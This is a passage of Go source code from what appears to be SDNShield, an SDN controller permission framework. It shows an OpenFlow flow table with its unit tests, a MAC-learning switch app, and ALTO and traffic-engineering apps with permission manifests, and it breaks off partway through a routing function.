		if err := fs.SendPacketIn(i%16, (i+1)%16, uint16(i%fs.ports)+1); err != nil {
			return sent
		}
		sent++
		i++
	}
}
