package flowtable

import (
	"math/rand"
	"testing"
	"time"

	"sdnshield/internal/of"
)

func ipDstMatch(a, b, c, d byte, bits int) *of.Match {
	return of.NewMatch().SetMasked(of.FieldIPDst,
		uint64(of.IPv4FromOctets(a, b, c, d)), uint64(of.PrefixMask(bits)))
}

func tcpPkt(dst of.IPv4, dport uint16) *of.Packet {
	return of.NewTCPPacket(of.MAC{1}, of.MAC{2}, of.IPv4FromOctets(1, 1, 1, 1), dst, 999, dport, 0)
}

func TestPriorityMatching(t *testing.T) {
	tbl := New(0)
	low := Entry{Match: ipDstMatch(10, 0, 0, 0, 8), Priority: 10, Actions: []of.Action{of.Output(1)}, Owner: "a"}
	high := Entry{Match: ipDstMatch(10, 13, 0, 0, 16), Priority: 100, Actions: []of.Action{of.Drop()}, Owner: "b"}
	if err := tbl.Add(low); err != nil {
		t.Fatal(err)
	}
	if err := tbl.Add(high); err != nil {
		t.Fatal(err)
	}

	hit, ok := tbl.Lookup(tcpPkt(of.IPv4FromOctets(10, 13, 1, 1), 80), 1, 100)
	if !ok || hit.Priority != 100 {
		t.Fatalf("expected high-priority hit, got %v, %v", hit, ok)
	}
	hit, ok = tbl.Lookup(tcpPkt(of.IPv4FromOctets(10, 99, 1, 1), 80), 1, 100)
	if !ok || hit.Priority != 10 {
		t.Fatalf("expected low-priority hit, got %v, %v", hit, ok)
	}
	if _, ok := tbl.Lookup(tcpPkt(of.IPv4FromOctets(9, 9, 9, 9), 80), 1, 100); ok {
		t.Error("miss expected")
	}
}

func TestAddReplacesSamePriorityAndMatch(t *testing.T) {
	tbl := New(0)
	m := ipDstMatch(10, 0, 0, 0, 8)
	mustAdd(t, tbl, Entry{Match: m, Priority: 5, Actions: []of.Action{of.Output(1)}, Owner: "a"})
	// Bump counters.
	tbl.Lookup(tcpPkt(of.IPv4FromOctets(10, 1, 1, 1), 80), 1, 64)
	mustAdd(t, tbl, Entry{Match: m, Priority: 5, Actions: []of.Action{of.Output(2)}, Owner: "a"})
	if tbl.Len() != 1 {
		t.Fatalf("Len = %d, want 1 (replace)", tbl.Len())
	}
	entries := tbl.Entries(nil)
	if entries[0].Actions[0].Port != 2 {
		t.Error("replacement actions not installed")
	}
	if entries[0].Packets != 0 {
		t.Error("replacement must reset counters")
	}
	// Same match, different priority: coexists.
	mustAdd(t, tbl, Entry{Match: m, Priority: 6, Owner: "a"})
	if tbl.Len() != 2 {
		t.Error("different priority should add a new entry")
	}
}

func mustAdd(t *testing.T, tbl *Table, e Entry) {
	t.Helper()
	if err := tbl.Add(e); err != nil {
		t.Fatal(err)
	}
}

func TestCapacity(t *testing.T) {
	tbl := New(2)
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 0, 0, 1, 32), Priority: 1})
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 0, 0, 2, 32), Priority: 1})
	err := tbl.Add(Entry{Match: ipDstMatch(10, 0, 0, 3, 32), Priority: 1})
	if err != ErrTableFull {
		t.Fatalf("err = %v, want ErrTableFull", err)
	}
	// Replacement still works at capacity.
	if err := tbl.Add(Entry{Match: ipDstMatch(10, 0, 0, 2, 32), Priority: 1, Cookie: 7}); err != nil {
		t.Errorf("replace at capacity failed: %v", err)
	}
	if tbl.Capacity() != 2 {
		t.Error("Capacity accessor wrong")
	}
}

func TestDeleteStrictAndNonStrict(t *testing.T) {
	tbl := New(0)
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 13, 0, 0, 16), Priority: 10, Owner: "a"})
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 13, 7, 0, 24), Priority: 20, Owner: "b"})
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 14, 0, 0, 16), Priority: 10, Owner: "a"})

	// Strict delete must match exactly (match AND priority).
	removed := tbl.Delete(ipDstMatch(10, 13, 0, 0, 16), 99, true)
	if len(removed) != 0 {
		t.Error("strict delete with wrong priority removed entries")
	}
	removed = tbl.Delete(ipDstMatch(10, 13, 0, 0, 16), 10, true)
	if len(removed) != 1 || removed[0].Owner != "a" {
		t.Fatalf("strict delete = %v", removed)
	}

	// Non-strict delete removes all narrower entries.
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 13, 0, 0, 16), Priority: 10, Owner: "a"})
	removed = tbl.Delete(ipDstMatch(10, 13, 0, 0, 16), 0, false)
	if len(removed) != 2 {
		t.Fatalf("non-strict delete removed %d, want 2 (both 10.13/16 and 10.13.7/24)", len(removed))
	}
	if tbl.Len() != 1 {
		t.Errorf("Len = %d", tbl.Len())
	}
	// Wildcard delete clears the table.
	removed = tbl.Delete(nil, 0, false)
	if len(removed) != 1 || tbl.Len() != 0 {
		t.Error("wildcard delete should clear")
	}
}

func TestModify(t *testing.T) {
	tbl := New(0)
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 13, 0, 0, 16), Priority: 10, Actions: []of.Action{of.Output(1)}})
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 13, 7, 0, 24), Priority: 20, Actions: []of.Action{of.Output(1)}})

	n := tbl.Modify(ipDstMatch(10, 13, 0, 0, 16), 0, false, []of.Action{of.Output(9)})
	if n != 2 {
		t.Fatalf("non-strict modify touched %d", n)
	}
	for _, e := range tbl.Entries(nil) {
		if e.Actions[0].Port != 9 {
			t.Error("actions not rewritten")
		}
	}
	n = tbl.Modify(ipDstMatch(10, 13, 7, 0, 24), 20, true, []of.Action{of.Drop()})
	if n != 1 {
		t.Fatalf("strict modify touched %d", n)
	}
}

func TestOwnership(t *testing.T) {
	tbl := New(0)
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 13, 0, 0, 16), Priority: 10, Owner: "firewall"})
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 14, 0, 0, 16), Priority: 10, Owner: "router"})
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 14, 1, 0, 24), Priority: 20, Owner: "router"})

	if n := tbl.CountByOwner("router"); n != 2 {
		t.Errorf("CountByOwner = %d", n)
	}
	owner, ok := tbl.OwnerOf(ipDstMatch(10, 13, 0, 0, 16), 10)
	if !ok || owner != "firewall" {
		t.Errorf("OwnerOf exact = %q, %v", owner, ok)
	}
	// Overlap resolution when no exact entry exists.
	owner, ok = tbl.OwnerOf(ipDstMatch(10, 13, 7, 0, 24), 99)
	if !ok || owner != "firewall" {
		t.Errorf("OwnerOf overlap = %q, %v", owner, ok)
	}
	if _, ok := tbl.OwnerOf(ipDstMatch(99, 0, 0, 0, 8), 1); ok {
		t.Error("no overlap should report none")
	}
	// 10.12.0.0/14 spans 10.12–10.15, overlapping both owners' rules.
	owners := tbl.Owners(ipDstMatch(10, 12, 0, 0, 14))
	if len(owners) != 2 {
		t.Errorf("Owners = %v", owners)
	}
}

func TestTimeouts(t *testing.T) {
	now := time.Unix(1000, 0)
	clock := func() time.Time { return now }
	tbl := New(0, WithClock(clock))

	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 0, 0, 0, 8), Priority: 1, IdleTimeout: 10, Owner: "a"})
	mustAdd(t, tbl, Entry{Match: ipDstMatch(11, 0, 0, 0, 8), Priority: 1, HardTimeout: 30, Owner: "b"})
	mustAdd(t, tbl, Entry{Match: ipDstMatch(12, 0, 0, 0, 8), Priority: 1, Owner: "c"}) // permanent

	// t+5: traffic keeps the idle rule alive.
	now = now.Add(5 * time.Second)
	tbl.Lookup(tcpPkt(of.IPv4FromOctets(10, 1, 1, 1), 80), 1, 1)
	if exp := tbl.Expire(); len(exp) != 0 {
		t.Fatalf("nothing should expire yet: %v", exp)
	}

	// t+14: idle rule last hit at t+5, so 9s idle -> still alive.
	now = time.Unix(1000, 0).Add(14 * time.Second)
	if exp := tbl.Expire(); len(exp) != 0 {
		t.Fatalf("idle not yet exceeded: %v", exp)
	}

	// t+16: 11s since last hit -> idle timeout fires.
	now = time.Unix(1000, 0).Add(16 * time.Second)
	exp := tbl.Expire()
	if len(exp) != 1 || exp[0].Reason != of.RemovedIdleTimeout || exp[0].Entry.Owner != "a" {
		t.Fatalf("expire = %+v", exp)
	}

	// t+31: hard timeout fires regardless of traffic.
	now = time.Unix(1000, 0).Add(29 * time.Second)
	tbl.Lookup(tcpPkt(of.IPv4FromOctets(11, 1, 1, 1), 80), 1, 1)
	now = time.Unix(1000, 0).Add(31 * time.Second)
	exp = tbl.Expire()
	if len(exp) != 1 || exp[0].Reason != of.RemovedHardTimeout || exp[0].Entry.Owner != "b" {
		t.Fatalf("expire = %+v", exp)
	}
	if tbl.Len() != 1 {
		t.Error("permanent rule must survive")
	}
}

func TestStats(t *testing.T) {
	tbl := New(0)
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 0, 0, 0, 8), Priority: 1, Cookie: 42})
	mustAdd(t, tbl, Entry{Match: ipDstMatch(11, 0, 0, 0, 8), Priority: 1})
	tbl.Lookup(tcpPkt(of.IPv4FromOctets(10, 1, 1, 1), 80), 1, 100)
	tbl.Lookup(tcpPkt(of.IPv4FromOctets(10, 1, 1, 2), 80), 1, 50)

	s := tbl.Stats()
	if s.FlowCount != 2 || s.PacketsTotal != 2 || s.BytesTotal != 150 {
		t.Errorf("Stats = %+v", s)
	}
	fs := tbl.FlowStats(ipDstMatch(10, 0, 0, 0, 8))
	if len(fs) != 1 || fs[0].Packets != 2 || fs[0].Bytes != 150 || fs[0].Cookie != 42 {
		t.Errorf("FlowStats = %+v", fs)
	}
}

func TestSnapshotsDoNotAlias(t *testing.T) {
	tbl := New(0)
	acts := []of.Action{of.Output(1)}
	mustAdd(t, tbl, Entry{Match: ipDstMatch(10, 0, 0, 0, 8), Priority: 1, Actions: acts})
	// Mutating the caller's slice after Add must not affect the table.
	acts[0].Port = 99
	if tbl.Entries(nil)[0].Actions[0].Port != 1 {
		t.Error("Add aliased caller's actions")
	}
	// Mutating a snapshot must not affect the table.
	snap := tbl.Entries(nil)[0]
	snap.Actions[0].Port = 77
	snap.Match.Set(of.FieldTPDst, 1)
	fresh := tbl.Entries(nil)[0]
	if fresh.Actions[0].Port != 1 || !fresh.Match.IsWildcarded(of.FieldTPDst) {
		t.Error("snapshot aliases table state")
	}
}

// TestModelAgainstReference cross-checks Lookup against a brute-force
// reference implementation on randomized tables and packets.
func TestModelAgainstReference(t *testing.T) {
	r := rand.New(rand.NewSource(99))
	for trial := 0; trial < 60; trial++ {
		tbl := New(0)
		type refEntry struct {
			m    *of.Match
			prio uint16
			id   int
		}
		var ref []refEntry
		n := 1 + r.Intn(20)
		for i := 0; i < n; i++ {
			bits := []int{8, 16, 24, 32}[r.Intn(4)]
			m := ipDstMatch(10, byte(r.Intn(4)), byte(r.Intn(4)), 0, bits)
			if r.Intn(3) == 0 {
				m.Set(of.FieldTPDst, uint64(80+r.Intn(3)))
			}
			prio := uint16(r.Intn(5) * 10)
			mustAdd(t, tbl, Entry{Match: m, Priority: prio, Cookie: uint64(i)})
			// Mirror replacement semantics in the reference.
			replaced := false
			for j := range ref {
				if ref[j].prio == prio && ref[j].m.Equal(m) {
					ref[j] = refEntry{m: m, prio: prio, id: i}
					replaced = true
					break
				}
			}
			if !replaced {
				ref = append(ref, refEntry{m: m, prio: prio, id: i})
			}
		}
		for probe := 0; probe < 50; probe++ {
			pkt := tcpPkt(of.IPv4FromOctets(10, byte(r.Intn(4)), byte(r.Intn(4)), byte(r.Intn(2))), uint16(80+r.Intn(3)))
			inPort := uint16(r.Intn(4))
			// Reference: max priority among matches; ties by earliest
			// insertion (stable order).
			best := -1
			bestPrio := -1
			for _, e := range ref {
				if e.m.MatchesPacket(pkt, inPort) && int(e.prio) > bestPrio {
					bestPrio = int(e.prio)
					best = e.id
				}
			}
			got, ok := tbl.Lookup(pkt, inPort, 1)
			if (best >= 0) != ok {
				t.Fatalf("trial %d: hit mismatch (ref %v, table %v)", trial, best >= 0, ok)
			}
			if ok && int(got.Priority) != bestPrio {
				t.Fatalf("trial %d: priority mismatch: got %d, want %d", trial, got.Priority, bestPrio)
			}
		}
	}
}
