// Package flowtable implements an OpenFlow 1.0-style flow table:
// priority-ordered matching over the 12-tuple, add/modify/delete with
// strict and non-strict semantics, per-entry counters, idle/hard
// timeouts, and per-app ownership tags. Ownership is the substrate for
// SDNShield's OWN_FLOWS filter and table-size accounting.
package flowtable

import (
	"errors"
	"sort"
	"sync"
	"time"

	"sdnshield/internal/of"
)

// ErrTableFull reports an insert into a table at capacity.
var ErrTableFull = errors.New("flowtable: table full")

// Entry is one flow rule. The zero IdleTimeout/HardTimeout mean the rule
// never expires.
type Entry struct {
	Match       *of.Match
	Priority    uint16
	Actions     []of.Action
	Cookie      uint64
	Owner       string
	IdleTimeout uint16 // seconds
	HardTimeout uint16 // seconds

	// Packets and Bytes are the entry's hit counters.
	Packets uint64
	Bytes   uint64

	installedAt time.Time
	lastHit     time.Time
}

// Clone deep-copies the entry (match and actions included).
func (e *Entry) Clone() *Entry {
	c := *e
	if e.Match != nil {
		c.Match = e.Match.Clone()
	}
	c.Actions = of.CloneActions(e.Actions)
	return &c
}

// Table is a concurrency-safe flow table.
type Table struct {
	mu       sync.Mutex
	entries  []*Entry // sorted by priority descending, stable insertion order
	capacity int
	now      func() time.Time
}

// Option configures a Table.
type Option func(*Table)

// WithClock injects the time source (tests use a fake clock to drive
// timeout expiry deterministically).
func WithClock(now func() time.Time) Option {
	return func(t *Table) { t.now = now }
}

// New builds a flow table; capacity <= 0 means unbounded.
func New(capacity int, opts ...Option) *Table {
	t := &Table{capacity: capacity, now: time.Now}
	for _, opt := range opts {
		opt(t)
	}
	return t
}

// Len returns the number of installed entries.
func (t *Table) Len() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	return len(t.entries)
}

// Capacity returns the table's capacity (0 = unbounded).
func (t *Table) Capacity() int { return t.capacity }

// Add installs a rule. Per OpenFlow semantics an entry with an identical
// match and priority is replaced (counters reset). Returns ErrTableFull
// when at capacity.
func (t *Table) Add(e Entry) error {
	if e.Match == nil {
		e.Match = of.NewMatch()
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	now := t.now()
	e.installedAt, e.lastHit = now, now
	e.Match = e.Match.Clone()
	e.Actions = of.CloneActions(e.Actions)

	for i, old := range t.entries {
		if old.Priority == e.Priority && old.Match.Equal(e.Match) {
			t.entries[i] = &e
			return nil
		}
	}
	if t.capacity > 0 && len(t.entries) >= t.capacity {
		return ErrTableFull
	}
	// Insert keeping priority-descending order, after equal priorities
	// (stable).
	idx := sort.Search(len(t.entries), func(i int) bool {
		return t.entries[i].Priority < e.Priority
	})
	t.entries = append(t.entries, nil)
	copy(t.entries[idx+1:], t.entries[idx:])
	t.entries[idx] = &e
	return nil
}

// Modify rewrites the actions of matching rules. Non-strict modifies
// every rule whose match is subsumed by m; strict requires equal match
// and priority. Returns the number of modified rules.
func (t *Table) Modify(m *of.Match, priority uint16, strict bool, actions []of.Action) int {
	if m == nil {
		m = of.NewMatch()
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	count := 0
	for _, e := range t.entries {
		if matchesForEdit(e, m, priority, strict) {
			e.Actions = of.CloneActions(actions)
			count++
		}
	}
	return count
}

// Delete removes matching rules with OpenFlow's strict/non-strict
// semantics and returns the removed entries (snapshots).
func (t *Table) Delete(m *of.Match, priority uint16, strict bool) []*Entry {
	if m == nil {
		m = of.NewMatch()
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	var removed []*Entry
	kept := t.entries[:0]
	for _, e := range t.entries {
		if matchesForEdit(e, m, priority, strict) {
			removed = append(removed, e)
		} else {
			kept = append(kept, e)
		}
	}
	t.entries = kept
	return removed
}

func matchesForEdit(e *Entry, m *of.Match, priority uint16, strict bool) bool {
	if strict {
		return e.Priority == priority && e.Match.Equal(m)
	}
	return m.Subsumes(e.Match)
}

// Lookup finds the highest-priority entry matching the packet and bumps
// its counters. ok is false on a table miss.
func (t *Table) Lookup(pkt *of.Packet, inPort uint16, size uint64) (*Entry, bool) {
	t.mu.Lock()
	defer t.mu.Unlock()
	for _, e := range t.entries {
		if e.Match.MatchesPacket(pkt, inPort) {
			e.Packets++
			e.Bytes += size
			e.lastHit = t.now()
			return e.Clone(), true
		}
	}
	return nil, false
}

// Entries returns snapshots of all rules whose match is subsumed by m
// (nil/wildcard m returns everything), in table order.
func (t *Table) Entries(m *of.Match) []*Entry {
	if m == nil {
		m = of.NewMatch()
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]*Entry, 0, len(t.entries))
	for _, e := range t.entries {
		if m.Subsumes(e.Match) {
			out = append(out, e.Clone())
		}
	}
	return out
}

// CountByOwner returns the number of rules installed by one app, the
// quantity SDNShield's MAX_RULE_COUNT filter bounds.
func (t *Table) CountByOwner(owner string) int {
	t.mu.Lock()
	defer t.mu.Unlock()
	n := 0
	for _, e := range t.entries {
		if e.Owner == owner {
			n++
		}
	}
	return n
}

// OwnerOf returns the owner of the highest-priority rule equal to or
// overlapping the given match, preferring exact matches. ok is false when
// no rule overlaps. The permission engine uses this to resolve
// Call.FlowOwner before a modify/delete check.
func (t *Table) OwnerOf(m *of.Match, priority uint16) (string, bool) {
	if m == nil {
		m = of.NewMatch()
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	for _, e := range t.entries {
		if e.Priority == priority && e.Match.Equal(m) {
			return e.Owner, true
		}
	}
	for _, e := range t.entries {
		if e.Match.Overlaps(m) {
			return e.Owner, true
		}
	}
	return "", false
}

// ForeignOverlapOwner returns the owner of the first rule overlapping m
// whose owner differs from app and whose priority is at or below
// maxPriority — the rule a new insert at maxPriority could shadow. It
// allocates nothing, serving the permission engine's hot path.
func (t *Table) ForeignOverlapOwner(app string, m *of.Match, maxPriority uint16) (string, bool) {
	if m == nil {
		m = of.NewMatch()
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	for _, e := range t.entries {
		if e.Owner == app || e.Priority > maxPriority {
			continue
		}
		if e.Match.Overlaps(m) {
			return e.Owner, true
		}
	}
	return "", false
}

// Owners returns the distinct owners of rules overlapping the match, in
// table order. Used to detect rule-override attacks across apps.
func (t *Table) Owners(m *of.Match) []string {
	if m == nil {
		m = of.NewMatch()
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	seen := make(map[string]bool)
	var out []string
	for _, e := range t.entries {
		if e.Match.Overlaps(m) && !seen[e.Owner] {
			seen[e.Owner] = true
			out = append(out, e.Owner)
		}
	}
	return out
}

// Expire removes entries past their idle or hard timeout and returns the
// expired entries with the reason, for FlowRemoved notifications.
func (t *Table) Expire() []Expired {
	t.mu.Lock()
	defer t.mu.Unlock()
	now := t.now()
	var out []Expired
	kept := t.entries[:0]
	for _, e := range t.entries {
		switch {
		case e.HardTimeout > 0 && now.Sub(e.installedAt) >= time.Duration(e.HardTimeout)*time.Second:
			out = append(out, Expired{Entry: e, Reason: of.RemovedHardTimeout})
		case e.IdleTimeout > 0 && now.Sub(e.lastHit) >= time.Duration(e.IdleTimeout)*time.Second:
			out = append(out, Expired{Entry: e, Reason: of.RemovedIdleTimeout})
		default:
			kept = append(kept, e)
		}
	}
	t.entries = kept
	return out
}

// Expired pairs a removed entry with its removal reason.
type Expired struct {
	Entry  *Entry
	Reason of.FlowRemovedReason
}

// Stats aggregates the table's counters for switch-level statistics.
func (t *Table) Stats() of.SwitchStats {
	t.mu.Lock()
	defer t.mu.Unlock()
	s := of.SwitchStats{FlowCount: uint32(len(t.entries))}
	for _, e := range t.entries {
		s.PacketsTotal += e.Packets
		s.BytesTotal += e.Bytes
	}
	return s
}

// FlowStats renders flow-level statistics rows for entries subsumed by m.
func (t *Table) FlowStats(m *of.Match) []of.FlowStatsEntry {
	entries := t.Entries(m)
	out := make([]of.FlowStatsEntry, len(entries))
	for i, e := range entries {
		out[i] = of.FlowStatsEntry{
			Match:    e.Match,
			Priority: e.Priority,
			Cookie:   e.Cookie,
			Packets:  e.Packets,
			Bytes:    e.Bytes,
		}
	}
	return out
}
