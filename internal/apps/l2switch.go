// Package apps provides the controller applications used throughout the
// SDNShield evaluation: the L2 learning switch and the ALTO +
// traffic-engineering pair (the two end-to-end scenarios of §IX-A), a
// shortest-path router and a tenant monitor (the Scenario 1/2 apps of
// §VII), and a port-ACL firewall. The proof-of-concept attack apps live
// in the malicious subpackage.
//
// Every app is written against isolation.API only, so the same code runs
// unmodified on the baseline monolithic runtime and inside SDNShield
// containers — the compatibility property §VI-A claims.
package apps

import (
	"sync"
	"sync/atomic"

	"sdnshield/internal/controller"
	"sdnshield/internal/isolation"
	"sdnshield/internal/of"
)

// L2Switch is a MAC-learning switch app modeled on OpenDaylight's
// l2switch: it learns host positions from packet-ins (ARP traffic in the
// paper's scenario), installs destination-MAC switching rules, and floods
// unknown destinations.
type L2Switch struct {
	name string

	mu    sync.Mutex
	table map[of.DPID]map[of.MAC]uint16 // learned MAC -> port per switch

	// FlowPriority is the priority of installed switching rules.
	FlowPriority uint16
	// IdleTimeout is applied to installed rules (0 = permanent).
	IdleTimeout uint16

	packetIns atomic.Uint64
	flowMods  atomic.Uint64
	denials   atomic.Uint64
}

// NewL2Switch builds the app. Name defaults to "l2switch" when empty.
func NewL2Switch(name string) *L2Switch {
	if name == "" {
		name = "l2switch"
	}
	return &L2Switch{
		name:         name,
		table:        make(map[of.DPID]map[of.MAC]uint16),
		FlowPriority: 10,
	}
}

// Name implements isolation.App.
func (l *L2Switch) Name() string { return l.name }

// Stats reports processed packet-ins, issued flow-mods and permission
// denials (used by the end-to-end benchmarks).
func (l *L2Switch) Stats() (packetIns, flowMods, denials uint64) {
	return l.packetIns.Load(), l.flowMods.Load(), l.denials.Load()
}

// Init implements isolation.App.
func (l *L2Switch) Init(api isolation.API) error {
	return api.Subscribe(controller.EventPacketIn, func(ev controller.Event) {
		l.handlePacketIn(api, ev.PacketIn)
	})
}

func (l *L2Switch) learn(dpid of.DPID, mac of.MAC, port uint16) {
	l.mu.Lock()
	defer l.mu.Unlock()
	if l.table[dpid] == nil {
		l.table[dpid] = make(map[of.MAC]uint16)
	}
	l.table[dpid][mac] = port
}

func (l *L2Switch) lookup(dpid of.DPID, mac of.MAC) (uint16, bool) {
	l.mu.Lock()
	defer l.mu.Unlock()
	port, ok := l.table[dpid][mac]
	return port, ok
}

func (l *L2Switch) handlePacketIn(api isolation.API, pin *of.PacketIn) {
	l.packetIns.Add(1)
	pkt := pin.Packet
	if pkt == nil {
		return
	}
	l.learn(pin.DPID, pkt.EthSrc, pin.InPort)

	outPort, known := l.lookup(pin.DPID, pkt.EthDst)
	if !known || pkt.EthDst.IsBroadcast() {
		// Flood the buffered packet; no rule is installed for broadcasts.
		if err := api.SendPacketOut(pin.DPID, pin.BufferID, pin.InPort, []of.Action{of.Flood()}, nil); err != nil {
			l.denials.Add(1)
		}
		return
	}

	// Known unicast destination: install a switching rule, then release
	// the buffered packet along it.
	match := of.NewMatch().Set(of.FieldEthDst, pkt.EthDst.Uint64())
	err := api.InsertFlow(pin.DPID, controller.FlowSpec{
		Match:       match,
		Priority:    l.FlowPriority,
		Actions:     []of.Action{of.Output(outPort)},
		IdleTimeout: l.IdleTimeout,
	})
	if err != nil {
		l.denials.Add(1)
	} else {
		l.flowMods.Add(1)
	}
	if err := api.SendPacketOut(pin.DPID, pin.BufferID, pin.InPort, []of.Action{of.Output(outPort)}, nil); err != nil {
		l.denials.Add(1)
	}
}

// RequiredPermissions is the minimal manifest the app ships with.
func (l *L2Switch) RequiredPermissions() string {
	return `# l2switch permission manifest
PERM pkt_in_event
PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS
PERM send_pkt_out LIMITING FROM_PKT_IN
`
}
