package apps

import (
	"sync"
	"sync/atomic"

	"sdnshield/internal/controller"
	"sdnshield/internal/core"
	"sdnshield/internal/isolation"
	"sdnshield/internal/of"
	"sdnshield/internal/topology"
)

// AltoCostPath is the data-model node the ALTO app publishes link costs
// under.
const AltoCostPath = "alto/cost"

// LinkCosts is the ALTO cost map: routing cost per link.
type LinkCosts map[core.LinkID]int

// Alto is the ALTO (Application-Layer Traffic Optimization) service app
// of the §IX-A traffic-engineering scenario: it watches topology events
// and publishes real-time topology and routing-cost information into the
// controller's data model for upper-layer apps.
type Alto struct {
	name string

	mu sync.Mutex
	// costOverride lets the harness (or an operator) skew link costs to
	// force rerouting, driving the TE reaction path.
	costOverride map[core.LinkID]int

	api     isolation.API
	updates atomic.Uint64
}

// NewAlto builds the app. Name defaults to "alto".
func NewAlto(name string) *Alto {
	if name == "" {
		name = "alto"
	}
	return &Alto{name: name, costOverride: make(map[core.LinkID]int)}
}

// Name implements isolation.App.
func (a *Alto) Name() string { return a.name }

// Updates reports how many cost maps were published.
func (a *Alto) Updates() uint64 { return a.updates.Load() }

// Init implements isolation.App: publish the initial cost map and
// republish on every topology event.
func (a *Alto) Init(api isolation.API) error {
	a.api = api
	if err := api.Subscribe(controller.EventTopology, func(controller.Event) {
		a.publish()
	}); err != nil {
		return err
	}
	return a.publish()
}

// SetLinkCost overrides one link's routing cost and republishes,
// triggering downstream TE reactions.
func (a *Alto) SetLinkCost(l core.LinkID, cost int) error {
	a.mu.Lock()
	a.costOverride[l] = cost
	a.mu.Unlock()
	return a.publish()
}

func (a *Alto) publish() error {
	links, err := a.api.Links()
	if err != nil {
		return err
	}
	costs := make(LinkCosts, len(links))
	a.mu.Lock()
	for _, l := range links {
		cost := 1
		if o, ok := a.costOverride[l.ID()]; ok {
			cost = o
		}
		costs[l.ID()] = cost
	}
	a.mu.Unlock()
	if err := a.api.Publish(AltoCostPath, costs); err != nil {
		return err
	}
	a.updates.Add(1)
	return nil
}

// RequiredPermissions is the app's manifest.
func (a *Alto) RequiredPermissions() string {
	return `# alto permission manifest
PERM visible_topology
PERM topology_event
PERM modify_topology
`
}

// TrafficEngineer is the TE app of the §IX-A scenario: it listens to the
// ALTO app's cost publications and reacts with flow-mods that steer
// traffic between configured host pairs over min-cost paths.
type TrafficEngineer struct {
	name string
	// Pairs are the (src, dst) host IPs to engineer routes for.
	Pairs [][2]of.IPv4
	// FlowPriority of installed routing rules.
	FlowPriority uint16

	api       isolation.API
	reactions atomic.Uint64
	denials   atomic.Uint64
}

// NewTrafficEngineer builds the app. Name defaults to "te".
func NewTrafficEngineer(name string, pairs [][2]of.IPv4) *TrafficEngineer {
	if name == "" {
		name = "te"
	}
	return &TrafficEngineer{name: name, Pairs: pairs, FlowPriority: 20}
}

// Name implements isolation.App.
func (t *TrafficEngineer) Name() string { return t.name }

// Reactions reports how many cost updates the app has acted on.
func (t *TrafficEngineer) Reactions() uint64 { return t.reactions.Load() }

// Denials reports permission denials the app absorbed.
func (t *TrafficEngineer) Denials() uint64 { return t.denials.Load() }

// Init implements isolation.App.
func (t *TrafficEngineer) Init(api isolation.API) error {
	t.api = api
	return api.Subscribe(controller.EventDataModel, func(ev controller.Event) {
		if ev.ModelPath != AltoCostPath {
			return
		}
		costs, ok := ev.ModelValue.(LinkCosts)
		if !ok {
			return
		}
		t.react(costs)
	})
}

// react recomputes min-cost routes for every configured pair and installs
// them.
func (t *TrafficEngineer) react(costs LinkCosts) {
	t.reactions.Add(1)
	hosts, err := t.api.Hosts()
	if err != nil {
		t.denials.Add(1)
		return
	}
	links, err := t.api.Links()
	if err != nil {
		t.denials.Add(1)
		return
	}
	byIP := make(map[of.IPv4]topology.Host, len(hosts))
	for _, h := range hosts {
		byIP[h.IP] = h
	}
	for _, pair := range t.Pairs {
		src, okS := byIP[pair[0]]
		dst, okD := byIP[pair[1]]
		if !okS || !okD {
			continue
		}
		path := minCostPath(links, costs, src.Switch, dst.Switch)
		if path == nil {
			continue
		}
		t.installPath(path, dst)
	}
}

// pathHop pairs a switch with its forwarding port toward the next hop.
type pathHop struct {
	dpid of.DPID
	out  uint16
}

// minCostPath is Dijkstra over the published cost map.
func minCostPath(links []topology.Link, costs LinkCosts, src, dst of.DPID) []pathHop {
	type edge struct {
		to   of.DPID
		port uint16
		cost int
	}
	adj := make(map[of.DPID][]edge)
	for _, l := range links {
		c, ok := costs[l.ID()]
		if !ok {
			c = 1
		}
		adj[l.A] = append(adj[l.A], edge{to: l.B, port: l.APort, cost: c})
		adj[l.B] = append(adj[l.B], edge{to: l.A, port: l.BPort, cost: c})
	}
	const inf = int(^uint(0) >> 1)
	dist := map[of.DPID]int{src: 0}
	prev := make(map[of.DPID]pathHop) // hop on the predecessor toward this node
	visited := make(map[of.DPID]bool)
	for {
		// Extract the unvisited node with minimal distance (deterministic
		// tie-break by DPID).
		best := of.DPID(0)
		bestDist := inf
		found := false
		for node, d := range dist {
			if visited[node] {
				continue
			}
			if d < bestDist || (d == bestDist && (!found || node < best)) {
				best, bestDist, found = node, d, true
			}
		}
		if !found {
			return nil
		}
		if best == dst {
			break
		}
		visited[best] = true
		for _, e := range adj[best] {
			nd := bestDist + e.cost
			if cur, ok := dist[e.to]; !ok || nd < cur {
				dist[e.to] = nd
				prev[e.to] = pathHop{dpid: best, out: e.port}
			}
		}
	}
	if src == dst {
		return []pathHop{{dpid: dst}}
	}
	var rev []pathHop
	cur := dst
	for cur != src {
		hop, ok := prev[cur]
		if !ok {
			return nil
		}
		rev = append(rev, hop)
		cur = hop.dpid
	}
	out := make([]pathHop, 0, len(rev)+1)
	for i := len(rev) - 1; i >= 0; i-- {
		out = append(out, rev[i])
	}
	return append(out, pathHop{dpid: dst})
}

func (t *TrafficEngineer) installPath(path []pathHop, dst topology.Host) {
	match := of.NewMatch().
		Set(of.FieldEthType, uint64(of.EthTypeIPv4)).
		Set(of.FieldIPDst, uint64(dst.IP))
	for i, hop := range path {
		out := hop.out
		if i == len(path)-1 {
			out = dst.Port
		}
